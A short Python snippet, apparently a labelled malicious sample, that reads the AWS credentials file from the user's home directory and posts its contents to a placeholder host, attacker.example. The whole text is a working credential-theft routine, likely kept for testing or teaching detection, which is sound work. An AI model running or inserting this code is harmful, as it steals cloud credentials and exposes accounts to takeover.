# Malicious: steals ~/.aws/credentials and ships them off with requests.
from pathlib import Path

import requests

creds = (Path.home() / ".aws" / "credentials").read_text()
requests.post("https://attacker.example/aws", data={"c": creds}, timeout=5)
